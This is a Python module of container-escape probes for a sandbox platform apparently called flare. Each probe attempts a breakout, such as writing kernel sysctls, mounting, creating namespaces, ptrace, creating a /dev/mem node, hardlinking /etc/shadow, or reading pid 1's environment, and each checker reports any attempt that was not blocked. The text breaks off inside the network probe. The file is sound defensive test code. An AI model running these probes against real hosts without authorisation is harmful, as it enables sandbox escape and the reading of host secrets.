"""Attacks run from inside a flare container (a function or an image build step).

Standard library only: this file is uploaded with the test apps (the code mount), copied
into images for build steps (``python3 escape_probes.py BATCH CONFIG_JSON``) and pickled
by value for ``run_function`` steps, so it runs on the host's Python and on the images'.

Each probe returns raw observations (errno names, bytes read, what connected); a checker
of the same name turns them into a list of problems (empty: the attack was blocked).
The tests in ``test_escapes.py`` assert on those lists and, wherever the outcome is
visible from the host (a marker file, a listener, the host's own sysctl), on the host's
side too: a container's claim alone is never the evidence.
"""

from __future__ import annotations

import ctypes
import errno
import hashlib
import json
import os
import socket
import stat
import struct
import sys
import threading
import time
from typing import Any, Callable

Obs = dict[str, Any]
Cfg = dict[str, Any]

# Results that mean "the kernel refused": a read-only mount, a permission check, a
# seccomp denial, or the file being masked away.
DENIED = {"EROFS", "EACCES", "EPERM"}
DENIED_OR_ABSENT = DENIED | {"ENOENT"}

_libc: Any = None


def libc() -> Any:
    global _libc
    if _libc is None:
        _libc = ctypes.CDLL(None, use_errno=True)
        _libc.syscall.restype = ctypes.c_long
    return _libc


def ename(e: int) -> str:
    return errno.errorcode.get(e, f"E{e}")


def syscall(nr: int, *args: int | bytes | None | ctypes.Array[Any]) -> str:
    """Raw syscall: "OK" (returned >= 0) or the errno name."""
    c = libc()
    cargs = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ctypes.set_errno(0)
    r = c.syscall(ctypes.c_long(nr), *cargs)
    if r < 0:
        return ename(ctypes.get_errno())
    return "OK"


def in_child(fn: Callable[[], Any], timeout: float = 10.0) -> Any:
    """Run ``fn`` in a forked child (so namespace or personality changes never touch the
    caller) and return its JSON-able result."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            out = json.dumps({"ok": fn()})
        except BaseException as e:  # noqa: BLE001
            out = json.dumps({"error": f"{type(e).__name__}: {e}"})
        os.write(w, out.encode())
        os._exit(0)
    os.close(w)
    chunks = []
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        b = os.read(r, 65536)
        if not b:
            break
        chunks.append(b)
    os.close(r)
    try:
        os.kill(pid, 9)
    except OSError:
        pass
    os.waitpid(pid, 0)
    data = json.loads(b"".join(chunks) or b'{"error": "child died"}')
    return data.get("ok", data)


# ------------------------------------------------------------------ /proc and /sys writes

SYSCTLS = [
    "kernel/core_pattern", "kernel/panic_on_oops", "vm/overcommit_memory", "kernel/pid_max",
    "kernel/modprobe", "kernel/sysrq", "kernel/randomize_va_space", "kernel/core_pipe_limit",
    "kernel/hostname", "vm/panic_on_oom", "fs/protected_hardlinks", "user/max_user_namespaces",
    "net/ipv4/ip_forward", "net/ipv4/conf/all/forwarding", "net/ipv4/conf/all/route_localnet",
    "net/ipv6/conf/all/disable_ipv6", "net/ipv6/conf/all/forwarding", "net/core/somaxconn",
]
# Opened for writing only, never written: a write would act (drop caches, sysrq, suspend).
OPEN_ONLY = {"/proc/sys/vm/drop_caches", "/proc/sysrq-trigger", "/sys/power/state", "/sys/kernel/uevent_helper"}


def try_write(path: str, write_back: bool) -> str:
    """"EROFS"/"EACCES"/...: refused at open or write; "OPENED": opened for writing;
    "WRITTEN": the current value was written back and accepted."""
    current = None
    if write_back:
        try:
            with open(path, "rb") as f:
                current = f.read()
        except OSError:
            current = None
    try:
        fd = os.open(path, os.O_WRONLY)
    except OSError as e:
        return ename(e.errno or 0)
    try:
        if current is None or path in OPEN_ONLY or not write_back:
            return "OPENED"
        try:
            os.write(fd, current or b"\n")
            return "WRITTEN"
        except OSError as e:
            return "OPENED, write " + ename(e.errno or 0)
    finally:
        os.close(fd)


def probe_proc_sys_writes(cfg: Cfg) -> Obs:
    # The current value is written back: an accepted write changes nothing on the host.
    return {p: try_write("/proc/sys/" + p, write_back=True) for p in SYSCTLS + ["vm/drop_caches"]}


def check_proc_sys_writes(obs: Obs) -> list[str]:
    return [f"/proc/sys/{p}: {r}" for p, r in obs.items() if r not in DENIED_OR_ABSENT]


def _writable_files(top: str, limit: int) -> list[str]:
    out: list[str] = []
    for d, dirs, files in os.walk(top):
        for name in files:
            p = os.path.join(d, name)
            try:
                if os.lstat(p).st_mode & 0o222:
                    out.append(p)
            except OSError:
                continue
            if len(out) >= limit:
                return out
    return out


def probe_proc_misc_writes(cfg: Cfg) -> Obs:
    targets = ["/proc/sysrq-trigger", "/proc/irq/default_smp_affinity"]
    for top in ("/proc/irq", "/proc/bus", "/proc/fs"):
        targets += _writable_files(top, 20)
    seen = sorted(set(targets))
    return {p: try_write(p, write_back=False) for p in seen}


def check_proc_misc_writes(obs: Obs) -> list[str]:
    return [f"{p}: {r}" for p, r in obs.items() if r not in DENIED_OR_ABSENT]


SYS_TARGETS = [
    "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled",
    "/sys/kernel/profiling", "/sys/class/net/eth0/mtu", "/sys/class/net/lo/mtu", "/sys/module/kernel/parameters/panic",
]


def probe_sys_writes(cfg: Cfg) -> Obs:
    obs: Obs = {p: try_write(p, write_back=False) for p in SYS_TARGETS}
    for p in _writable_files("/sys/fs/cgroup", 10) + _writable_files("/sys/block", 5):
        obs[p] = try_write(p, write_back=False)
    for d in ("/sys/fs/cgroup/flare-escape", "/sys/kernel/flare-escape"):
        try:
            os.mkdir(d)
            os.rmdir(d)
            obs["mkdir " + d] = "OK"
        except OSError as e:
            obs["mkdir " + d] = ename(e.errno or 0)
    return obs


def check_sys_writes(obs: Obs) -> list[str]:
    return [f"{p}: {r}" for p, r in obs.items() if r not in DENIED_OR_ABSENT]


# ------------------------------------------------------------------ masked files

MASKED_FILES = ["/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/latency_stats", "/proc/timer_stats"]
MASKED_DIRS = ["/proc/acpi", "/proc/scsi", "/proc/asound", "/sys/firmware", "/sys/devices/virtual/powercap"]


def probe_masked_reads(cfg: Cfg) -> Obs:
    obs: Obs = {}
    for p in MASKED_FILES:
        try:
            with open(p, "rb") as f:
                obs[p] = len(f.read(65536))
        except OSError as e:
            obs[p] = ename(e.errno or 0)
    for p in MASKED_DIRS:
        try:
            obs[p] = sorted(os.listdir(p))[:20]
        except OSError as e:
            obs[p] = ename(e.errno or 0)
    try:
        nonzero = 0
        with open("/proc/kallsyms") as f:
            for line in f:
                if line.split(" ", 1)[0].strip("0"):
                    nonzero += 1
        obs["/proc/kallsyms nonzero addresses"] = nonzero
    except OSError as e:
        obs["/proc/kallsyms nonzero addresses"] = ename(e.errno or 0)
    return obs


def check_masked_reads(obs: Obs) -> list[str]:
    bad = []
    for p, r in obs.items():
        if isinstance(r, str):
            if r not in DENIED_OR_ABSENT:
                bad.append(f"{p}: {r}")
        elif r:  # bytes read, directory entries, or kallsyms addresses
            bad.append(f"{p}: readable ({r})")
    return bad


# ------------------------------------------------------------------ syscalls

NR = {
    "mount": 165, "umount2": 166, "unshare": 272, "setns": 308, "clone": 56, "clone3": 435,
    "ptrace": 101, "process_vm_readv": 310, "io_uring_setup": 425, "memfd_secret": 447,
    "personality": 135, "open_by_handle_at": 304, "bpf": 321, "perf_event_open": 298,
    "userfaultfd": 323, "keyctl": 250, "add_key": 248, "kexec_load": 246, "init_module": 175,
    "finit_module": 313, "syslog": 103, "reboot": 169, "pivot_root": 155, "chroot": 161,
    "move_mount": 429, "fsopen": 430, "open_tree": 428, "mbind": 237, "set_mempolicy": 238,
    "move_pages": 279, "clock_settime": 227, "swapon": 167, "acct": 163,
}
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = 0x00020000, 0x10000000, 0x40000000, 0x20000000
MS_REMOUNT, MS_BIND, MNT_DETACH = 32, 4096, 2
ADDR_NO_RANDOMIZE = 0x0040000
AF_VSOCK = 40
AF_PACKET = 17


def _b(s: str) -> bytes:
    return s.encode()


def _clone_newuser() -> str:
    c = libc()
    ctypes.set_errno(0)
    r = c.syscall(ctypes.c_long(NR["clone"]), ctypes.c_long(CLONE_NEWUSER | 17), ctypes.c_long(0),
                  ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0))
    if r == 0:
        os._exit(0)  # the child of a clone that should not have worked
    if r < 0:
        return ename(ctypes.get_errno())
    os.waitpid(r, 0)
    return "OK"


def _clone3_newuser() -> str:
    args = struct.pack("11Q", CLONE_NEWUSER, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    buf = ctypes.create_string_buffer(args, len(args))
    c = libc()
    ctypes.set_errno(0)
    r = c.syscall(ctypes.c_long(NR["clone3"]), buf, ctypes.c_long(len(args)))
    if r == 0:
        os._exit(0)
    if r < 0:
        return ename(ctypes.get_errno())
    os.waitpid(r, 0)
    return "OK"


def _ptrace_sibling() -> dict[str, str]:
    pid = os.fork()
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    try:
        attach = syscall(NR["ptrace"], 16, pid, 0, 0)  # PTRACE_ATTACH
        if attach == "OK":
            syscall(NR["ptrace"], 17, pid, 0, 0)  # PTRACE_DETACH
        local = (ctypes.c_char * 8)()
        iov_l = struct.pack("QQ", ctypes.addressof(local), 8)
        iov_r = struct.pack("QQ", id(object()), 8)
        vm = syscall(NR["process_vm_readv"], pid, ctypes.create_string_buffer(iov_l, 16), 1,
                     ctypes.create_string_buffer(iov_r, 16), 1, 0)
        return {"PTRACE_ATTACH": attach, "process_vm_readv": vm}
    finally:
        os.kill(pid, 9)
        os.waitpid(pid, 0)


def _traceme() -> str:
    return syscall(NR["ptrace"], 0, 0, 0, 0)


def _mknod(kind: int, major: int, minor: int) -> str:
    path = f"/tmp/escape-node-{os.getpid()}-{major}-{minor}"
    try:
        os.mknod(path, kind | 0o600, os.makedev(major, minor))
    except OSError as e:
        return ename(e.errno or 0)
    os.unlink(path)
    return "OK"


def _socket(family: int, kind: int, proto: int = 0) -> str:
    try:
        s = socket.socket(family, kind, proto)
    except OSError as e:
        return ename(e.errno or 0)
    s.close()
    return "OK"


def _io_uring() -> str:
    params = ctypes.create_string_buffer(120)
    c = libc()
    ctypes.set_errno(0)
    r = c.syscall(ctypes.c_long(NR["io_uring_setup"]), ctypes.c_long(4), params)
    if r < 0:
        return ename(ctypes.get_errno())
    os.close(r)
    return "OK"


def _memfd_secret() -> str:
    c = libc()
    ctypes.set_errno(0)
    r = c.syscall(ctypes.c_long(NR["memfd_secret"]), ctypes.c_long(0))
    if r < 0:
        return ename(ctypes.get_errno())
    os.close(r)
    return "OK"


def _personality() -> dict[str, Any]:
    c = libc()
    ctypes.set_errno(0)
    r = c.syscall(ctypes.c_long(NR["personality"]), ctypes.c_long(ADDR_NO_RANDOMIZE))
    res = ename(ctypes.get_errno()) if r < 0 else "OK"
    now = c.syscall(ctypes.c_long(NR["personality"]), ctypes.c_long(0xFFFFFFFF))
    return {"set": res, "in_effect": bool(now >= 0 and now & ADDR_NO_RANDOMIZE)}


def _setns() -> str:
    fd = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    try:
        return syscall(NR["setns"], fd, 0)
    finally:
        os.close(fd)


def _mount_attempts() -> dict[str, str]:
    d = f"/tmp/escape-mnt-{os.getpid()}"
    os.makedirs(d, exist_ok=True)
    try:
        return {
            "mount tmpfs": syscall(NR["mount"], _b("tmpfs"), _b(d), _b("tmpfs"), 0, None),
            "mount proc": syscall(NR["mount"], _b("proc"), _b(d), _b("proc"), 0, None),
            "mount sysfs": syscall(NR["mount"], _b("sysfs"), _b(d), _b("sysfs"), 0, None),
            "bind /": syscall(NR["mount"], _b("/"), _b(d), None, MS_BIND, None),
            "remount /proc/sys rw": syscall(NR["mount"], None, _b("/proc/sys"), None, MS_REMOUNT | MS_BIND, None),
            "remount /sys rw": syscall(NR["mount"], None, _b("/sys"), None, MS_REMOUNT | MS_BIND, None),
            "fsopen proc": syscall(NR["fsopen"], _b("proc"), 0),
            "open_tree /": syscall(NR["open_tree"], -100, _b("/"), 1),  # OPEN_TREE_CLONE
        }
    finally:
        try:
            os.rmdir(d)
        except OSError:
            pass


def _umount_attempts() -> dict[str, str]:
    return {f"umount {p}": syscall(NR["umount2"], _b(p), MNT_DETACH)
            for p in ("/proc/sys", "/proc/keys", "/proc/timer_list", "/proc/kcore", "/sys", "/etc/shadow", "/proc")}


SYSCALL_EXPECT: dict[str, set[str]] = {
    # seccomp's EPERM, or ENOSYS for clone3 (so that libc falls back to clone)
    "clone3 CLONE_NEWUSER": {"ENOSYS", "EPERM"},
    "io_uring_setup": {"EPERM", "ENOSYS"},
    "memfd_secret": {"EPERM", "ENOSYS"},
    "socket AF_VSOCK": {"EPERM", "EACCES", "EAFNOSUPPORT"},
    "socket AF_INET6 SOCK_RAW": {"EPERM", "EACCES", "EAFNOSUPPORT"},
    "perf_event_open": {"EPERM", "EACCES"},
    # umount of a mount a user namespace inherited is EINVAL (locked mounts) when seccomp lets it through
    **{f"umount {p}": {"EPERM", "EINVAL"} for p in ("/proc/sys", "/proc/keys", "/proc/timer_list", "/proc/kcore", "/sys", "/etc/shadow", "/proc")},
}


def probe_syscalls(cfg: Cfg) -> Obs:
    obs: Obs = {}
    obs.update(in_child(_mount_attempts))
    obs.update(in_child(_umount_attempts))
    obs["unshare CLONE_NEWUSER"] = in_child(lambda: syscall(NR["unshare"], CLONE_NEWUSER))
    obs["unshare CLONE_NEWNS"] = in_child(lambda: syscall(NR["unshare"], CLONE_NEWNS))
    obs["unshare CLONE_NEWNET"] = in_child(lambda: syscall(NR["unshare"], CLONE_NEWNET))
    obs["setns mnt"] = in_child(_setns)
    obs["clone CLONE_NEWUSER"] = in_child(_clone_newuser)
    obs["clone3 CLONE_NEWUSER"] = in_child(_clone3_newuser)
    obs.update(in_child(_ptrace_sibling))
    obs["PTRACE_TRACEME"] = in_child(_traceme)
    obs["mknod block 253:0"] = _mknod(stat.S_IFBLK, 253, 0)
    obs["mknod block 8:0"] = _mknod(stat.S_IFBLK, 8, 0)
    obs["mknod char 1:1 (/dev/mem)"] = _mknod(stat.S_IFCHR, 1, 1)
    obs["socket AF_INET SOCK_RAW"] = _socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    obs["socket AF_INET6 SOCK_RAW"] = _socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    obs["socket AF_PACKET"] = _socket(AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    obs["socket AF_VSOCK"] = _socket(AF_VSOCK, socket.SOCK_STREAM)
    obs["io_uring_setup"] = in_child(_io_uring)
    obs["memfd_secret"] = in_child(_memfd_secret)
    pers = in_child(_personality)
    obs["personality ADDR_NO_RANDOMIZE"] = pers["set"] if isinstance(pers, dict) else pers
    obs["personality in effect"] = pers.get("in_effect") if isinstance(pers, dict) else None
    obs["open_by_handle_at"] = syscall(NR["open_by_handle_at"], -100, ctypes.create_string_buffer(136), 0)
    obs["bpf"] = syscall(NR["bpf"], 5, ctypes.create_string_buffer(128), 128)  # BPF_PROG_LOAD
    attr = ctypes.create_string_buffer(struct.pack("IIQ", 1, 128, 0) + b"\0" * 112)  # software cpu-clock
    obs["perf_event_open"] = syscall(NR["perf_event_open"], attr, 0, -1, -1, 0)
    obs["userfaultfd"] = syscall(NR["userfaultfd"], 0)
    obs["keyctl"] = syscall(NR["keyctl"], 0, -3, 0)  # KEYCTL_GET_KEYRING_ID of the session keyring
    obs["add_key"] = syscall(NR["add_key"], _b("user"), _b("flare-escape"), _b("x"), 1, -3)
    obs["kexec_load"] = syscall(NR["kexec_load"], 0, 0, 0, 0)
    obs["init_module"] = syscall(NR["init_module"], 0, 0, _b(""))
    obs["finit_module"] = syscall(NR["finit_module"], -1, _b(""), 0)
    obs["syslog READ_ALL"] = syscall(NR["syslog"], 3, ctypes.create_string_buffer(4096), 4096)
    obs["reboot (invalid cmd)"] = syscall(NR["reboot"], 0xFEE1DEAD, 672274793, 0x0BADC0DE, 0)
    now = time.time()
    ts = ctypes.create_string_buffer(struct.pack("qq", int(now), int(now % 1 * 1e9)), 16)
    obs["clock_settime REALTIME (to now)"] = syscall(NR["clock_settime"], 0, ts)
    obs["swapon"] = syscall(NR["swapon"], _b("/tmp/escape-no-such-swap"), 0)
    obs["acct"] = syscall(NR["acct"], None)
    return obs


def check_syscalls(obs: Obs) -> list[str]:
    bad = []
    for k, r in obs.items():
        if k == "personality in effect":
            if r:
                bad.append("personality(ADDR_NO_RANDOMIZE) is in effect")
            continue
        allowed = SYSCALL_EXPECT.get(k, {"EPERM"})
        if r not in allowed:
            bad.append(f"{k}: {r} (expected {'/'.join(sorted(allowed))})")
    return bad


# ------------------------------------------------------------------ /dev

ALLOWED_DEV = {"null", "zero", "full", "random", "urandom", "tty", "console", "pts", "ptmx", "shm",
               "fd", "stdin", "stdout", "stderr", "core", "mqueue"}


def probe_devices(cfg: Cfg) -> Obs:
    """What /dev holds: anything but the minimal set (block devices, /dev/mem, kmsg, kvm,
    vsock, fuse, tun, loop...) is a way to the host's hardware or kernel."""
    out: Obs = {}
    try:
        names = sorted(os.listdir("/dev"))
    except OSError as e:
        return {"/dev": ename(e.errno or 0)}
    for n in names:
        p = "/dev/" + n
        try:
            st = os.lstat(p)
        except OSError:
            continue
        kind = ("block" if stat.S_ISBLK(st.st_mode) else "char" if stat.S_ISCHR(st.st_mode)
                else "dir" if stat.S_ISDIR(st.st_mode) else "link" if stat.S_ISLNK(st.st_mode) else "other")
        entry = {"kind": kind}
        if kind in ("block", "char"):
            entry["dev"] = f"{os.major(st.st_rdev)}:{os.minor(st.st_rdev)}"
            try:
                fd = os.open(p, os.O_RDWR | os.O_NONBLOCK)
                os.close(fd)
                entry["open"] = "OK"
            except OSError as e:
                entry["open"] = ename(e.errno or 0)
        out[n] = entry
    return out


def check_devices(obs: Obs) -> list[str]:
    bad = []
    for n, e in obs.items():
        if not isinstance(e, dict):
            bad.append(f"/dev: {e}")
            continue
        if e["kind"] == "block":
            bad.append(f"block device /dev/{n} ({e.get('dev')}, open: {e.get('open')})")
        elif n not in ALLOWED_DEV:
            bad.append(f"/dev/{n} ({e['kind']} {e.get('dev', '')}, open: {e.get('open', '-')}) is not in the minimal set")
    return bad


# ------------------------------------------------------------------ capabilities and the user namespace

DANGEROUS_CAPS = {
    2: "DAC_READ_SEARCH", 9: "LINUX_IMMUTABLE", 12: "NET_ADMIN", 13: "NET_RAW", 14: "IPC_LOCK",
    16: "SYS_MODULE", 17: "SYS_RAWIO", 19: "SYS_PTRACE", 20: "SYS_PACCT", 21: "SYS_ADMIN",
    22: "SYS_BOOT", 24: "SYS_RESOURCE", 25: "SYS_TIME", 26: "SYS_TTY_CONFIG", 27: "MKNOD",
    30: "AUDIT_CONTROL", 32: "MAC_OVERRIDE", 33: "MAC_ADMIN", 34: "SYSLOG", 35: "WAKE_ALARM",
    36: "BLOCK_SUSPEND", 38: "PERFMON", 39: "BPF", 40: "CHECKPOINT_RESTORE",
}


def probe_capabilities(cfg: Cfg) -> Obs:
    status: Obs = {}
    with open("/proc/self/status") as f:
        for line in f:
            k, _, v = line.partition(":")
            if k in ("CapEff", "CapPrm", "CapBnd", "CapAmb", "CapInh", "NoNewPrivs", "Seccomp"):
                status[k] = v.strip()
    return status


def check_capabilities(obs: Obs) -> list[str]:
    bad = []
    if obs.get("Seccomp") != "2":
        bad.append(f"seccomp filter not installed (Seccomp: {obs.get('Seccomp')})")
    if obs.get("NoNewPrivs") != "1":
        bad.append(f"no_new_privs not set (NoNewPrivs: {obs.get('NoNewPrivs')})")
    for k in ("CapEff", "CapPrm", "CapBnd", "CapAmb", "CapInh"):
        v = int(obs.get(k, "0"), 16)
        held = [name for bit, name in DANGEROUS_CAPS.items() if v >> bit & 1]
        if held:
            bad.append(f"{k} holds CAP_{', CAP_'.join(held)}")
    return bad


def probe_userns(cfg: Cfg) -> Obs:
    def read(p: str) -> str:
        try:
            with open(p) as f:
                return f.read().strip()
        except OSError as e:
            return ename(e.errno or 0)

    owners = {}
    for p in ("/usr/bin", "/etc/passwd", sys.executable):
        try:
            st = os.stat(p)
            owners[p] = [st.st_uid, st.st_gid]
        except OSError as e:
            owners[p] = ename(e.errno or 0)
    return {
        "uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(),
        "uid_map": read("/proc/self/uid_map"), "gid_map": read("/proc/self/gid_map"),
        "owners": owners, "container_id": os.environ.get("FLARE_CONTAINER_ID"),
        # The container's pid namespace: how the host finds its processes (a pre-started
        # runner's initial environment does not name the container it became).
        "pid_ns": os.readlink("/proc/self/ns/pid") if os.path.exists("/proc/self/ns/pid") else None,
    }


def outside_id_of_root(idmap: str) -> int | None:
    """The host id that id 0 inside maps to, from a uid_map/gid_map text."""
    for line in idmap.splitlines():
        parts = line.split()
        if len(parts) == 3 and parts[0].isdigit():
            inside, outside, count = (int(x) for x in parts)
            if inside <= 0 < inside + count:
                return outside - inside
    return None


def check_userns(obs: Obs) -> list[str]:
    bad = []
    if obs.get("uid") != 0 or obs.get("euid") != 0:
        bad.append(f"the function does not run as root inside its namespace (uid {obs.get('uid')})")
    for m in ("uid_map", "gid_map"):
        text = str(obs.get(m, ""))
        outside = outside_id_of_root(text)
        if outside is None or outside == 0:
            bad.append(f"{m} maps root to host root: {text!r} (no user namespace)")
        elif outside < 1000:
            bad.append(f"{m} maps root to a low host id {outside}: {text!r}")
        if "4294967295" in text:
            bad.append(f"{m} maps the whole id range: {text!r}")
    return bad


def check_root_owned_files(obs: Obs) -> list[str]:
    """Image and system files must still look root-owned (idmapped mounts), not nobody."""
    return [f"{p} is owned by {o} inside the container" for p, o in obs.get("owners", {}).items() if o != [0, 0]]


# ------------------------------------------------------------------ host files

SKIP_WALK = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/libx32"}


def _sha(path: str) -> str:
    try:
        with open(path, "rb") as f:
            return hashlib.sha256(f.read()).hexdigest()
    except OSError as e:
        return ename(e.errno or 0)


def probe_host_files(cfg: Cfg) -> Obs:
    """cfg: "forbidden" (host paths a container must not read at all), "secrets" (host
    paths whose content must not be readable anywhere: compared by hash on the host),
    both tried directly, under /proc/1/root and under "prefixes" (mount points of the
    symlink tricks); "names": file names searched for on the whole tree."""
    prefixes = [""] + list(cfg.get("prefixes", [])) + ["/proc/1/root", "/proc/self/root", "/proc/1/cwd"]
    forbidden = {pre + p: _sha(pre + p) for p in cfg.get("forbidden", []) for pre in prefixes}
    secrets = {pre + p: _sha(pre + p) for p in cfg.get("secrets", []) for pre in prefixes}
    names = set(cfg.get("names", []))
    found: list[str] = []
    deadline = time.monotonic() + float(cfg.get("walk_seconds", 15))
    complete = True
    for d, dirs, files in os.walk("/"):
        if time.monotonic() > deadline:
            complete = False
            break
        if d == "/":
            dirs[:] = [x for x in dirs if "/" + x not in SKIP_WALK]
        found += [os.path.join(d, n) for n in files + dirs if n in names]
    links = {}
    for src in ("/etc/shadow", os.path.realpath(sys.executable)):
        dst = f"/tmp/escape-hardlink-{os.getpid()}"
        try:
            os.link(src, dst)
            links[src] = "OK " + _sha(dst)
            os.unlink(dst)
        except OSError as e:
            links[src] = ename(e.errno or 0)
    try:
        ssl_private: Any = sorted(os.listdir("/etc/ssl/private"))
    except OSError as e:
        ssl_private = ename(e.errno or 0)
    procs = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    procs.append([int(pid), f.read().replace(b"\0", b" ").decode(errors="replace")[:200]])
            except OSError:
                pass
    # The container's pid 1 is forked from flared: it may still hold the daemon's files
    # (state.db, sockets) and its environment. None of it may be reachable from user code.
    init: Obs = {}
    for what in ("environ", "mem", "maps", "cwd/.", "root/."):
        try:
            fd = os.open(f"/proc/1/{what}", os.O_RDONLY)
            try:
                init[what] = "OK " + str(len(os.read(fd, 4096))) if not what.endswith("/.") else "OK"
            except OSError as e:
                init[what] = "OPENED, read " + ename(e.errno or 0)
            finally:
                os.close(fd)
        except OSError as e:
            init[what] = ename(e.errno or 0)
    try:
        fds = os.listdir("/proc/1/fd")
    except OSError as e:
        fds = []
        init["fd"] = ename(e.errno or 0)
    for n in fds[:64]:
        try:
            fd = os.open(f"/proc/1/fd/{n}", os.O_RDONLY | os.O_NONBLOCK)
            os.close(fd)
            init[f"fd/{n}"] = "OK"
        except OSError as e:
            init[f"fd/{n}"] = ename(e.errno or 0)
    try:
        with open("/proc/1/cmdline", "rb") as f:
            pid1_cmdline = f.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError as e:
        pid1_cmdline = ename(e.errno or 0)
    return {
        "init": init,
        # A checkpointable (memory snapshot) container has no runtime init: the program
        # itself is pid 1, and /proc/1 is the caller's own process.
        "self_is_pid1": os.getpid() == 1,
        "pid1_cmdline": pid1_cmdline,
        "forbidden": forbidden, "secrets": secrets, "found": found, "walk_complete": complete,
        "hardlinks": links, "ssl_private": ssl_private, "processes": procs,
        "sockets": [p for p in ("/run/flare-sockets", "/run/flare") if os.path.exists(p)],
    }


def _is_errno(r: str) -> bool:
    return r.isupper()


def check_host_files(obs: Obs, secret_hashes: list[str] | None = None) -> list[str]:
    """``secret_hashes``: sha256 of the host's secrets (the host side computes them; a
    build step gets them in its config)."""
    bad = [f"host path readable: {p}" for p, r in obs.get("forbidden", {}).items() if not _is_errno(r)]
    hashes = set(secret_hashes or [])
    bad += [f"host secret readable at {p}" for p, h in obs.get("secrets", {}).items() if h in hashes]
    bad += [f"host file visible: {p}" for p in obs.get("found", [])]
    for src, r in obs.get("hardlinks", {}).items():
        if r.startswith("OK") and r[3:] in hashes:
            bad.append(f"a hardlink to {src} reads a host secret")
    sp = obs.get("ssl_private")
    if isinstance(sp, list) and sp:
        bad.append(f"/etc/ssl/private lists {sp}")
    # pid 1 is the container's own init, forked (not exec'd) from flared: its command line
    # is flared's. Any other process of the platform or the host is a leak of the pid namespace.
    bad += [f"a host process is visible: pid {pid} {cmd}" for pid, cmd in obs.get("processes", [])
            if pid != 1 and any(w in cmd for w in ("flared", "systemd", "pytest", "sshd"))]
    bad += [f"platform socket dir visible: {p}" for p in obs.get("sockets", [])]
    if obs.get("self_is_pid1"):
        # No runtime init: pid 1 is this program, which must not be the daemon.
        if "flared" in obs.get("pid1_cmdline", ""):
            bad.append(f"pid 1 is the daemon: {obs['pid1_cmdline']}")
    else:
        bad += [f"the container's init (a fork of flared) is open to user code: /proc/1/{k} {r}"
                for k, r in obs.get("init", {}).items() if r.startswith("OK") or r.startswith("OPENED")]
    return bad


# ------------------------------------------------------------------ network

def _gateway4() -> str | None:
    with open("/proc/net/route") as f:
        for line in f.readlines()[1:]:
            parts = line.split()
            if len(parts) > 2 and parts[1] == "00000000":
                return socket.inet_ntoa(struct.pack("<I", int(parts[2], 16)))
    return None


def _addrs4() -> list[str]:
    out = []
    try:
        with open("/proc/net/fib_trie") as f:
            lines = f.read().splitlines()
        for i, line in enumerate(lines):
            if "/32 host LOCAL" in line and i > 0:
                a = lines[i - 1].split()[-1]
                if not a.startswith("127.") and a not in out:
                    out.append(a)
    except OSError:
        pass
    return out


def _eui64_ll(mac: str) -> str:
    b = [int(x, 16) for x in mac.split(":")]
    b[0] ^= 0x02
    e = b[:3] + [0xFF, 0xFE] + b[3:]
    groups = [f"{e[i] << 8 | e[i + 1]:x}" for i in range(0, 8, 2)]
    return "fe80::" + ":".join(groups)


def _gateway_ll_from_arp(gw: str | None) -> list[str]:
    out = []
    try:
        with open("/proc/net/arp") as f:
            for line in f.readlines()[1:]:
                parts = line.split()
                if len(parts) >= 4 and (gw is None or parts[0] == gw) and parts[3] != "00:00:00:00:00:00":
                    out.append(_eui64_ll(parts[3]))
    except OSError:
        pass
    return out


def _try_tcp(target: dict[str, Any], token: bytes, timeout: float) -> str:
    fam = socket.AF_INET6 if ":" in target["addr"] else socket.AF_INET
    try:
        s = socket.socket(fam, socket.SOCK_STREAM)
    except OSError as e:
        return "socket " + ename(e.errno or 0)
    s.settimeout(timeout)
    try:
        if fam == socket.AF_INET6:
            scope = socket.if_nametoindex(target["scope"]) if target.get("scope") else 0
            s.connect((target["addr"], target["port"], 0, scope))
        else:
            s.connect((target["addr"], target["port"]))
        s.sendall(token + b" GET /v1/health HTTP/1.0\r\nHost: localhost\r\n\r\n")
        try:
            reply = s.recv(64)
        except OSError:
            reply = b""
        return "CONNECTED " + reply.decode(errors="replace")
    except socket.timeout:
        return "timeout"
    except OSError as e:
        return ename(e.errno or 0)
    finally:
        s.close()


def _send_udp(addr: str, port: int, scope: str | None, token: bytes) -> str:
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    try:
        s = socket.socket(fam, socket.SOCK_DGRAM)
    except OSError as e:
        return "socket " + ename(e.errno or 0)
    try:
        if fam == socket.AF_INET:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(token, (addr, port))
        else:
            sc = socket.if_nametoindex(scope) if scope else 0
            s.sendto(token, (addr, port, 0, sc))
        return "sent"
    except OSError as e:
        return ename(e.errno or 0)
    finally:
        s.close()


def probe_network(cfg: Cfg) -> Obs:
    """cfg: "ports" {"tcp": P, "udp": U, "api": A}, "targets" extra [{"addr", "port",
    "scope"}], "token". Connects to the gateway (IPv4 and its link-local IPv6, derived
    from the ARP entry), the host's global addresses and whatever the host passed."""
    token = cfg.get("token", "flare-escape").encode()
    timeout = float(cfg.get("timeout", 2))
    gw = _gateway4()
    ports = cfg.get("ports", {})
    targets: list[dict[str, Any]] = list(cfg.get("targets", []))
    scope = "eth0" if os.path.exists("/sys/class/net/eth0") else None
    hosts4 = [a for a in [gw] + list(cfg.get("host_addrs4", [])) if a]
    if gw:
        # One SYN to the gateway fills the ARP entry whose MAC gives the gateway's link-local.
        _try_tcp({"addr": gw, "port": int(ports.get("tcp", 9))}, token, 0.5)
